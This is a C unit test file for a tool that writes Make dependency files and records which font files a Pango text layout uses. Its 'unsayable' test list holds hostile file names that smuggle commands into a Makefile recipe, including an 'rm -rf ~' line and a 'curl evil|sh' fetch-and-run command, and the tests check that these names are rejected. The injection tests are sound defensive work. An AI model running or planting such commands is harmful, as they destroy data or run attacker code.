/* check-deps: Make dependency files, and the font files a drawn layout
 * really used (fontuse), which those files list. */
#include <check.h>
#include <dirent.h>
#include <pango/pangocairo.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "deps.h"
#include "fonts.h"
#include "fontuse.h"
#include "xmalloc.h"

static char *
slurp(const char *path)
{
	FILE *fp = fopen(path, "rb");
	char *buf = xmalloc(8192);
	size_t n;

	ck_assert_ptr_nonnull(fp);
	n = fread(buf, 1, 8191, fp);
	buf[n] = '\0';
	fclose(fp);
	return buf;
}

/* Compare long texts ourselves (Check aborts on long messages). */
static void
assert_text(const char *got, const char *want)
{
	size_t i = 0;

	while (got[i] && got[i] == want[i])
		i++;
	if (got[i] != want[i])
		ck_abort_msg("differs at byte %zu: got \"%.40s\", want "
		    "\"%.40s\"", i, got + i, want + i);
}

struct deps_case {
	const char *target;
	const char *inputs[3];
	size_t n;
	const char *want;
};

static const struct deps_case deps_cases[] = {
	{ "out/a.pdf", { "reports/a.md", "data/x.csv" }, 2,
	  "out/a.pdf: \\\n  reports/a.md \\\n  data/x.csv\n"
	  "\nreports/a.md:\n\ndata/x.csv:\n" },
	/* Spaces, '#' and '$' mean something to make. */
	{ "out/my report.pdf", { "data/q4 #1.csv", "data/$cost.csv" }, 2,
	  "out/my\\ report.pdf: \\\n  data/q4\\ \\#1.csv \\\n"
	  "  data/$$cost.csv\n\ndata/q4\\ \\#1.csv:\n\ndata/$$cost.csv:\n" },
	{ "out/b.pdf", { "reports/b.md" }, 1,
	  "out/b.pdf: \\\n  reports/b.md\n\nreports/b.md:\n" },
	/* ':' splits a rule; '%' makes a target a pattern (not so in a
	 * prerequisite); a leading '~' is a home folder. */
	{ "out/50%.pdf", { "data/a:b (50%).csv", "~x.csv" }, 2,
	  "out/50\\%.pdf: \\\n  data/a\\:b\\ (50%).csv \\\n  ./~x.csv\n"
	  "\ndata/a\\:b\\ (50\\%).csv:\n\n./~x.csv:\n" },
};

/* Names make cannot take literally in a rule: no rule at all, and an
 * error naming the file (a newline or ';' in a data file's name put a
 * command of the report author's into the Makefile's recipe). */
static const char *const unsayable[] = {
	"data/a\n\trm -rf ~.csv", "data/x;curl evil|sh;.csv",
	"data/SHELL=sh.csv", "data/a\\b.csv", "data/*.csv", "data/a|b.csv",
};

START_TEST(test_deps_unsayable)
{
	const char *in[] = { "reports/a.md", unsayable[_i] };
	struct diags d;
	char *rule;

	diags_init(&d);
	rule = deps_rule("out/a.pdf", in, 2, &d);
	ck_assert_ptr_null(rule);
	ck_assert_uint_eq(d.errors, 1);
	ck_assert(strncmp(d.items[0].file, "data/", 5) == 0);
	ck_assert_ptr_nonnull(strstr(d.items[0].message, "make cannot name"));
	ck_assert(!deps_write("/tmp/never-written.d", "out/a.pdf", in, 2, &d));
	ck_assert_int_ne(access("/tmp/never-written.d", F_OK), 0);
	diags_release(&d);
}
END_TEST

START_TEST(test_deps_write)
{
	const struct deps_case *c = &deps_cases[_i];
	char dir[] = "/tmp/check-deps.XXXXXX";
	char *path, *got;
	struct diags d;

	ck_assert_ptr_nonnull(mkdtemp(dir));
	path = xasprintf("%s/a.pdf.d", dir);
	diags_init(&d);
	ck_assert(deps_write(path, c->target, c->inputs, c->n, &d));
	ck_assert_uint_eq(d.count, 0);
	got = slurp(path);
	assert_text(got, c->want);
	unlink(path);
	ck_assert_int_eq(rmdir(dir), 0);	/* no temporary file left */
	free(got);
	free(path);
	diags_release(&d);
}
END_TEST

START_TEST(test_deps_unwritable)
{
	const char *in[] = { "a.md" };
	struct diags d;

	diags_init(&d);
	ck_assert(!deps_write("/tmp/no-such-dir-figpress/a.d", "a.pdf", in, 1,
	    &d));
	ck_assert(diags_failed(&d));
	diags_release(&d);
}
END_TEST

/* --- fontuse: fonts of laid-out text ------------------------------------ */

static void
fonts_setup(void)
{
	struct diags d;

	diags_init(&d);
	ck_assert_msg(fonts_init(NULL, &d), "set FIGPRESS_FONTS");
	diags_release(&d);
}

static void
fonts_teardown(void)
{
	fonts_shutdown();
}

static PangoLayout *
markup_layout(PangoContext *pc, const char *family, const char *markup)
{
	PangoLayout *pl = pango_layout_new(pc);
	PangoFontDescription *fd = pango_font_description_from_string(family);

	pango_font_description_set_absolute_size(fd, 10 * PANGO_SCALE);
	pango_layout_set_font_description(pl, fd);
	pango_font_description_free(fd);
	pango_layout_set_markup(pl, markup, -1);
	return pl;
}

/* The base names of fu's files, joined by spaces. */
static char *
basenames(const struct fontuse *fu)
{
	char *out = xstrdup("");

	for (size_t i = 0; i < fu->nfiles; i++) {
		const char *slash = strrchr(fu->files[i], '/');
		char *next;
		ck_assert_msg(fu->files[i][0] == '/', "not absolute: %s",
		    fu->files[i]);
		next = xasprintf("%s%s%s", out, i ? " " : "", slash + 1);
		free(out);
		out = next;
	}
	return out;
}

struct fontuse_case {
	const char *family;
	const char *markup;
	const char *want;
};

static const struct fontuse_case fontuse_cases[] = {
	{ FONTS_SERIF, "Chi phí huấn luyện", "NotoSerif-Regular.ttf" },
	{ FONTS_SERIF, "Chi phí <b>5,6 triệu USD</b>",
	  "NotoSerif-Bold.ttf NotoSerif-Regular.ttf" },
	{ FONTS_SANS, "<i>nghiêng</i> và <b>đậm</b>",
	  "NotoSans-Bold.ttf NotoSans-Italic.ttf NotoSans-Regular.ttf" },
	{ FONTS_SERIF, "mã <tt>x = 1</tt>",
	  "NotoSansMono-Regular.ttf NotoSerif-Regular.ttf" },
	{ FONTS_SANS, "", "" },
};

START_TEST(test_fontuse_layout)
{
	const struct fontuse_case *c = &fontuse_cases[_i];
	PangoContext *pc = fonts_context(LANG_VI);
	PangoLayout *pl = markup_layout(pc, c->family, c->markup);
	struct fontuse fu;
	char *got;

	fontuse_init(&fu);
	fontuse_add_layout(&fu, pl);
	got = basenames(&fu);
	ck_assert_str_eq(got, c->want);
	free(got);
	fontuse_release(&fu);
	ck_assert_uint_eq(fu.nfiles, 0);
	g_object_unref(pl);
	g_object_unref(pc);
}
END_TEST

/* fontuse_note records only while a recorder is attached to the
 * layout's context, and only that context's layouts. */
START_TEST(test_fontuse_attach)
{
	PangoContext *pc = fonts_context(LANG_VI);
	PangoContext *other = fonts_context(LANG_VI);
	PangoLayout *bold = markup_layout(pc, FONTS_SANS, "<b>đậm</b>");
	PangoLayout *plain = markup_layout(pc, FONTS_SERIF, "thường");
	PangoLayout *elsewhere = markup_layout(other, FONTS_SANS, "<i>x</i>");
	struct fontuse fu;
	char *got;

	fontuse_init(&fu);
	fontuse_note(bold);			/* not attached yet */
	ck_assert_uint_eq(fu.nfiles, 0);
	fontuse_attach(&fu, pc);
	fontuse_note_line(pango_layout_get_line_readonly(plain, 0));
	fontuse_note(elsewhere);		/* another context */
	fontuse_note(plain);			/* twice: listed once */
	fontuse_detach(pc);
	fontuse_note(bold);			/* detached */
	got = basenames(&fu);
	ck_assert_str_eq(got, "NotoSerif-Regular.ttf");
	free(got);
	fontuse_release(&fu);
	g_object_unref(bold);
	g_object_unref(plain);
	g_object_unref(elsewhere);
	g_object_unref(pc);
	g_object_unref(other);
}
END_TEST

Suite *
deps_suite(void)
{
	Suite *s = suite_create("deps");
	TCase *tc = tcase_create("deps");
	TCase *tf = tcase_create("fontuse");

	tcase_add_loop_test(tc, test_deps_write, 0,
	    sizeof deps_cases / sizeof deps_cases[0]);
	tcase_add_test(tc, test_deps_unwritable);
	tcase_add_loop_test(tc, test_deps_unsayable, 0,
	    sizeof unsayable / sizeof unsayable[0]);
	suite_add_tcase(s, tc);
	tcase_add_checked_fixture(tf, fonts_setup, fonts_teardown);
	tcase_add_loop_test(tf, test_fontuse_layout, 0,
	    sizeof fontuse_cases / sizeof fontuse_cases[0]);
	tcase_add_test(tf, test_fontuse_attach);
	suite_add_tcase(s, tf);
	return s;
}
